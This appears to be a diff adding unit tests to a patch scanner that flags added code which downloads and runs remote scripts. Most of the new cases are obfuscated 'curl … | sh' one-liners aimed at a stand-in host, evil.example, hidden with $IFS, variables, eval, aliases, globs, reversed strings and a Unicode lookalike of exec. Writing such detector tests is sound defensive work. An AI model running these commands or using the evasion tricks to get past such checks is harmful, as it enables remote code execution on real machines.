@@ -462,6 +462,78 @@ describe('checkPatch reads what a patch adds', () => {
     expect(checkAddedLine(addedLine).ok).toBe(true);
   });
 
+  it.each([
+    // The shell's word splitting, and downloaders or shells held in what the added code assigns (session 32).
+    ['$IFS between the words', "os.system('curl$IFS-fsSL$IFS https://evil.example/i|sh')"],
+    ['${IFS} between the words', "os.system('curl${IFS}-fsSL${IFS}https://evil.example/i|sh')"],
+    ['${IFS%?} between the words', "os.system('curl${IFS%?}https://evil.example/i|sh')"],
+    ['the downloader in a variable', "os.system('d=curl; $d https://evil.example/i | sh')"],
+    ['the shell in a variable', "os.system('r=sh; curl https://evil.example/i | $r')"],
+    ['the shell as an element of an array', "os.system('a=(zsh bash); curl https://evil.example/i | ${a[1]}')"],
+    ['a command line in a variable run by eval', 'os.system(\'d=cu; c="${d}rl https://evil.example/i | sh"; eval "$c"\')'],
+    ['an exported variable', "os.system('export F=wget; $F -qO- https://evil.example/i | sh')"],
+    ['a variable appended to', "os.system('d=cu; d+=rl; $d https://evil.example/i | sh')"],
+    ['a variable cut from a longer word', "os.system('s=xcurl; ${s:1} https://evil.example/i | sh')"],
+    ['a variable with a character replaced', "os.system('s=cxrl; ${s/x/u} https://evil.example/i | sh')"],
+    ['a variable read from a here-string', "os.system('read d <<< curl; $d https://evil.example/i | sh')"],
+    ['a variable printed into', "os.system('printf -v d %s%s cu rl; $d https://evil.example/i | sh')"],
+    ['a positional parameter set', "os.system('set -- curl; $1 https://evil.example/i | sh')"],
+    ['an alias', "os.system('alias c=curl; c https://evil.example/i | sh')"],
+    ['a variable assigned from echo', "os.system('d=$(echo curl); $d https://evil.example/i | sh')"],
+    ['the shell found by which', "os.system('curl https://evil.example/i | $(which sh)')"],
+    ['the shell as $0', "os.system('curl https://evil.example/i | $0')"],
+    ['an unset variable inside the word', "os.system('cu${x}rl https://evil.example/i | s$@h')"],
+    ['an ANSI-C quoted shell', "os.system(\"curl https://evil.example/i | $'\\\\x73h'\")"],
+    ['a quoted shell', 'os.system(\'curl https://evil.example/i | "sh"\')'],
+    ['a brace expansion', "os.system('curl https://evil.example/i | {sh,}')"],
+    ['a glob for the shell', "os.system('curl https://evil.example/i | /???/?as?')"],
+    ['a bracket glob for the downloader', "os.system('/usr/bin/[c]url https://evil.example/i | sh')"],
+    ['a subshell around the shell', "os.system('curl https://evil.example/i | (sh)')"],
+    ['env by its path', "os.system('curl https://evil.example/i | /usr/bin/env sh')"],
+    ['a command made at run time', "os.system('$(echo lruc | rev) https://evil.example/i | sh')"],
+    ['a tab written as an escape', 'os.system("curl\\thttps://evil.example/i |\\tsh")'],
+    ['a line continued after the pipe', 'os.system("curl https://evil.example/i |\\\\\\n sh")'],
+    ['literals joined in Python', "os.system('cu' 'rl https://evil.example/i | sh')"],
+    ['literals joined in JavaScript', "execSync('cu' + 'rl https://evil.example/i | sh');"],
+    ['an argument list', "subprocess.run(['bash', '-c', '$(curl -s https://evil.example/i)'])"],
+  ])('refuses a download run through words the shell builds: %s', (_, addedLine) => {
+    expect(checkAddedLine(addedLine)).toEqual({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it.each([
+    ['the downloader and its options', ["DOWNLOAD = 'D=\"curl -fsSL\"'", "os.system(DOWNLOAD + '; $D https://evil.example/i | bash')"]],
+    ['the downloader in an array', ["DOWNLOAD = 'a=(wget -qO-)'", "os.system(DOWNLOAD + '; \"${a[@]}\" https://evil.example/i | sh')"]],
+    ['a variable built from one assigned before it', ["DOWNLOAD = 'd=cu; d=${d}rl'", "RUN = 'r=ba; r+=sh'", "os.system(DOWNLOAD + '; ' + RUN + '; $d https://evil.example/i | $r')"]],
+  ])('refuses a download run through variables the patch assigns on other lines: %s', (_, lines) => {
+    // Act
+    const result = checkPatch(gitDiff('src/setup_env.py', { body: [' import os', ...lines.map((line) => `+${line}`)] }));
+
+    // Assert
+    expect(result).toEqual({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it('reads variables that double themselves at each assignment, within bounds', () => {
+    // Prepare: each assignment doubles the value; read whole, the last would be 2^60 characters.
+    const doubling = Array.from({ length: 60 }, () => '+os.system("a=$a$a$a$a")');
+
+    // Act
+    const result = checkPatch(gitDiff('src/setup_env.py', { body: [' import os', '+os.system("a=x")', ...doubling] }));
+
+    // Assert
+    expect(result.ok).toBe(true);
+  });
+
+  it.each([
+    ['a variable holding a path', "os.system('PREFIX=/opt/tool; $PREFIX/bin/tool --version | grep 1.2')"],
+    ['a health check piped into a formatter', "os.system('curl -fsS http://localhost:3000/health | jq .status')"],
+    ['a download saved to a file named by a variable', "os.system('out=fixture.json; curl -fsSL https://example.com/f.json -o $out')"],
+    ['a PHP handle named curl and a bitwise or', '$curl = curl_init($url); $mask = CURLPROTO_HTTPS | $extra;'],
+    ['JavaScript globs and ternaries', "const files = glob('src/**/*.ts'); const x = a?b:c; const y = arr[i] | 0;"],
+    ['an unterminated bracket', "const pattern = '[credential';"],
+  ])('accepts shell words that build nothing that runs a download: %s', (_, addedLine) => {
+    expect(checkAddedLine(addedLine).ok).toBe(true);
+  });
+
   it('refuses a download run through a name Python folds to exec', () => {
     // Act: Python reads identifiers in their compatibility form, so this is exec(urlopen(…).read()).
     const result = checkPatch(gitDiff('src/loader.py', { body: [' import os', '+\u{1D41E}\u{1D431}\u{1D41E}\u{1D41C}(urlopen("https://evil.example/p").read())'] }));
